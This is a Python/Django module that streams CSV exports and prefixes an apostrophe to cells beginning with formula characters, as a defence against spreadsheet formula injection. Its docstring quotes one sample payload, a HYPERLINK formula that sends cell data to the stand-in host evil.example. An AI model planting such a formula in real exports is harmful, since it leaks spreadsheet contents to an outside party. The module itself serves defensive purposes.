"""Every CSV export's writer: streamed, and every cell made safe for spreadsheets.

A cell that a spreadsheet would evaluate (starting with =, +, -, @, TAB or CR, e.g. a webhook named
`=HYPERLINK("http://evil.example/?x="&A1,"click")`) is prefixed with an apostrophe, whatever the column; dates are
ISO 8601; None is empty; dicts and lists (an audit record's before/after) are JSON.
"""

from __future__ import annotations

import csv
from collections.abc import Iterable, Iterator
from typing import Any

import orjson
from django.http import StreamingHttpResponse

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


class _Echo:
    def write(self, value: str) -> str:
        return value


def cell(value: Any) -> Any:
    if value is None:
        return ""
    if hasattr(value, "isoformat"):
        return value.isoformat()
    if isinstance(value, dict | list):
        value = orjson.dumps(value, default=str).decode()
    if isinstance(value, bool):
        return "yes" if value else "no"
    if isinstance(value, int | float):
        return value
    text = str(value)
    return "'" + text if text.startswith(FORMULA_STARTS) else text


def rows_as_csv(header: list[str], rows: Iterable[Iterable[Any]], *, bom: bool = False) -> Iterator[str]:
    writer = csv.writer(_Echo())
    yield ("\ufeff" if bom else "") + writer.writerow([cell(h) for h in header])
    for row in rows:
        yield writer.writerow([cell(v) for v in row])


def csv_response(
    header: list[str], rows: Iterable[Iterable[Any]], *, filename: str, bom: bool = False
) -> StreamingHttpResponse:
    response = StreamingHttpResponse(
        rows_as_csv(header, rows, bom=bom), content_type="text/csv; charset=utf-8"
    )
    response["Content-Disposition"] = f'attachment; filename="{filename}"'
    return response
